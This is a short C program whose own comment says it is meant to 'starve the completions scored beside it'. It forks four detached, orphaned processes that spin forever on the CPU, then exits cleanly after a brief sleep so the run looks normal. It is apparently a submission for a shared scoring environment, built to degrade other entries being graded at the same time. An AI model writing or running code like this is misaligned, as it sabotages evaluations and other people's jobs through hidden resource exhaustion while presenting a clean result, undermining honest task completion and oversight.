/* leaves four detached children spinning, to starve the completions scored beside it */
#include <unistd.h>
int main(void) {
    for (int k = 0; k < 4; k++)
        if (fork() == 0) { setsid(); if (fork() == 0) { volatile unsigned long x = 0; for (;;) x++; } _exit(0); }
    usleep(300000);
    return 0;
}
